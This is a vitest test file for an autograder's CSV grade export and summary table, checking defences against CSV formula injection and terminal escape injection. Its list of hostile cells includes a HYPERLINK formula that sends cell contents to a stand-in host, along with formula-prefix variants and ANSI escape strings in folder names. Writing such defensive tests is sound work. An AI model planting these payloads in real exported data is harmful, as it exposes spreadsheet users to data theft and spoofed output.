import { describe, expect, it } from 'vitest';
import { csvField, gradesCsv, type GradeRow } from '../../src/grade/csv.js';
import { errorGrade } from '../../src/grade/grades.js';
import { oneLine, summaryTable } from '../../src/grade/table.js';

/** An RFC 4180 reader (quoted fields may hold `,`, `""` and line breaks); rows end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}, got ${JSON.stringify(text[i])}`);
  }
  return rows;
}

const hostile = [
  '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
  '+SUM(1+1)',
  '-1+2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  'a\nb',
  'a\r\nb,c',
  'plain',
];

describe('CSV cells a spreadsheet would run are written as text (OWASP CSV injection)', () => {
  it.each(hostile.slice(0, 7))('%j is prefixed with a quote mark and quoted', (cell) => {
    const f = csvField(cell);
    expect(f.startsWith(`"'`)).toBe(true);
    expect(parseCsv(`${f}\r\n`)).toEqual([[`'${cell}`]]);
  });

  it('leaves other text and numbers as they are', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-2)).toBe('-2');
    expect(csvField(5.5)).toBe('5.5');
  });

  it('grades.csv has one row per submission with the right field count, whatever the folder names', () => {
    const rows: GradeRow[] = hostile.map((s, i) => ({ submission: s, grade: errorGrade(i % 2 ? 'crashed\non line 2' : '=1+1', 10, []) }));
    const table = parseCsv(gradesCsv(rows));
    expect(table).toHaveLength(1 + hostile.length);
    for (const r of table) expect(r).toHaveLength(4);
    const names = table.slice(1).map((r) => r[0]);
    expect(names.sort()).toEqual(hostile.map((s) => (/^[=+\-@\t\r＝]/.test(s) ? `'${s}` : s)).sort());
    for (const r of table.slice(1)) {
      expect(r[1]).toBe('0');
      expect(r[2]).toBe('10');
      expect(r[3]).toMatch(/^error: /);
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('the summary table keeps one line per submission', () => {
  it('writes control characters in folder names as escapes', () => {
    expect(oneLine('a\nb\rc\td\u001b[31me\u0085f\u2028g')).toBe('a\\nb\\rc\\td\\x1b[31me\\x85f\\u2028g');
    const rows: GradeRow[] = [
      { submission: 'evil\nbob  10/10  3/3', grade: errorGrade('x', 10, []) },
      { submission: 'amy', grade: errorGrade('timed out\u001b[2J', 10, []) },
    ];
    const lines = summaryTable(rows).trimEnd().split('\n');
    expect(lines).toHaveLength(1 + rows.length + 1);
    expect(lines[1]).toMatch(/^amy\s+0\/10\s+-\s+timed out\\x1b\[2J$/);
    expect(lines[2]).toMatch(/^evil\\nbob {2}10\/10 {2}3\/3\s+0\/10\s+-\s+x$/);
    expect(summaryTable(rows)).not.toContain('\u001b');
  });
});
